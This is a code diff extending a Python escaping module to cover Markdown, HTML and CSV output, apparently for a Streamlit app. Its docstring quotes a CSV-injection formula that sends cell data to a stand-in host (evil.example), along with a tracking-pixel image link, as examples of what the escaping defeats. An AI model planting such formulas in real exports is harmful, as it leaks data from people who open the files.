@@ -1,8 +1,24 @@
-"""Cells a spreadsheet would run as formulas, made safe on the way out and restored on the way in.
+r"""Text from people, made safe for where it goes: Markdown, HTML and spreadsheets. One home for each.
 
-A CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
-read by Excel, LibreOffice and Google Sheets as a formula, so a lesson titled
-``=HYPERLINK("http://evil.example/?"&A1)`` would run in an organiser's spreadsheet
+**Markdown** (:func:`md_escape`): pages show records' titles, labels and lessons with
+``st.markdown`` and the brief is written in Markdown, so every character that starts
+markup in Markdown (emphasis, code, links and images, HTML, headings, tables) or in
+Streamlit's flavour (``$`` for maths, ``~`` for strike-through, ``:red[...]`` colours)
+gets a backslash, and line breaks become spaces: a title such as
+``![x](http://elsewhere/pixel)`` is shown as typed, not fetched; a label such as
+``<script>`` stays text.
+
+>>> md_escape("<b>*bold*</b> [x](javascript:y) $x$")
+'\\<b\\>\\*bold\\*\\</b\\> \\[x\\](javascript:y) \\$x\\$'
+
+**HTML** (:func:`html_escape`): the concept map's tooltips and the printable brief.
+
+>>> html_escape('<a href="x">')
+'&lt;a href=&quot;x&quot;&gt;'
+
+**Spreadsheets**: a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return is read by Excel, LibreOffice and Google Sheets as a formula, so a lesson
+titled ``=HYPERLINK("http://evil.example/?"&A1)`` would run in an organiser's spreadsheet
 (OWASP's "CSV injection"). Every CSV we write for people goes through
 :func:`escape_cell`: such a cell gets a leading ``'``, which spreadsheets show as
 text and hide. A cell that already starts with ``'`` gets one more, so
@@ -18,10 +34,24 @@ True
 from __future__ import annotations
 
 import csv
+import html
 import io
 import re
 
-__all__ = ["escape_cell", "escape_csv", "unescape_cell"]
+__all__ = ["escape_cell", "escape_csv", "html_escape", "md_escape", "unescape_cell"]
+
+_MARKDOWN = re.compile(r"([\\`*_\[\]<>#|~$])")
+
+
+def md_escape(text: object) -> str:
+    """``text`` on one line, every character Markdown could read as markup backslashed."""
+    return _MARKDOWN.sub(r"\\\1", " ".join(str(text).split()))
+
+
+def html_escape(text: object) -> str:
+    """``text`` as HTML text or attribute value (quotes escaped too)."""
+    return html.escape(str(text), quote=True)
+
 
 _TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
